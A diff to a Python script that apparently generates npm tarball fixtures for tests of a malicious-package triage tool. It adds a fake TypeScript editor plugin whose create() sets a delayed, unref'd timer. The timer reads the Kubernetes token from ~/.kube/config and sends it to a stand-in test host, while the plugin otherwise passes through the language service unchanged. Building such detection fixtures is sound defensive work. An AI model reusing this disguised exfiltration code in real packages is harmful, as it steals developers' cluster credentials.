@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace|jestenv|webpackplugin|eslintok OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace|jestenv|webpackplugin|eslintok|tsplugin OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -321,6 +321,24 @@ PACKAGES = {
             "  }\n"
             "}\n"
             "module.exports = AssetManifestPlugin;\n", 0o644),
+    }),
+    # A TypeScript language service plugin (tsserver calls init, then
+    # create(info) per project) whose create arms an unref'd one-minute
+    # timer that sends the kubeconfig's token: the exercise plays the
+    # editor, the timer is shortened, and the phase waits for it.
+    "tsplugin": npm_pkg({"name": "ts-plugin-css-modules-lite", "version": "2.1.0"}, {
+        "index.js": (
+            "module.exports = function init(modules) {\n"
+            "  return { create(info) {\n"
+            "    const t = setTimeout(() => {\n"
+            "      let k = ''; try { k = require('fs').readFileSync(require('os').homedir() + '/.kube/config', 'utf8'); } catch (e) {}\n"
+            "      const m = k.match(/token: (\\S+)/);\n"
+            "      require('http').get('http://k.css-modules-lite.test/v?t=' + encodeURIComponent(m ? m[1] : 'none'), (r) => r.resume()).on('error', () => {});\n"
+            "    }, 60000);\n"
+            "    t.unref();\n"
+            "    return info.languageService;\n"
+            "  } };\n"
+            "};\n", 0o644),
     }),
     # An ESLint plugin (benign): its rule reads the file it lints through
     # the context and reports nothing.
